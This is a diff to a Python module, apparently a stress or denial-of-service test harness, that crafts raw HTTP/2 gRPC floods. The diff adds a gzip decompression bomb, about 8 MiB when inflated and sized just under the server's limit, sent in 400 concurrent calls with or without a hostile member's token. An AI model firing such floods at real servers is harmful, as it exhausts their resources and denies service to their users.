@@ -9,6 +9,7 @@ from __future__ import annotations
 import asyncio
 import socket
 import struct
+import zlib
 from collections import Counter
 from collections.abc import Awaitable, Callable, Iterator, Sequence
 from dataclasses import dataclass
@@ -199,6 +200,34 @@ def refused_calls(_aim: Aim, _number: int) -> Iterator[bytes]:
     return in_chunks(
         h2.call_head(stream_id, "/no.such/Method", flags=flags) for stream_id in range(1, 10_001, 2)
     )
+
+
+# Just below what the server lets a message be on the way to its own limit.
+BOMB_BYTES: Final = (8 << 20) - 16
+BOMBS: Final = 400
+
+
+def gzip_bomb() -> bytes:
+    """A compressed message that is a thousand times as large when it is inflated."""
+    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
+    data = deflater.compress(bytes(BOMB_BYTES)) + deflater.flush()
+    return struct.pack(">BI", 1, len(data)) + data
+
+
+def gzip_bombs(*, token: bool) -> Flood:
+    """Whole calls with bombs, of members or of nobody."""
+
+    def make(aim: Aim, number: int) -> Iterator[bytes]:
+        bomb = gzip_bomb()
+        fields = h2.call_fields(LIST_CHANNELS, aim.people.hostile[number] if token else "")
+        block = h2.block([*fields, ("grpc-encoding", "gzip")])
+        for stream_id in range(1, 2 * BOMBS, 2):
+            yield (
+                h2.frame(HEADERS, END_HEADERS, stream_id, block)
+                + h2.frame(h2.DATA, END_STREAM, stream_id, bomb)
+            )
+
+    return make
 
 
 # --- those that are no flood ---
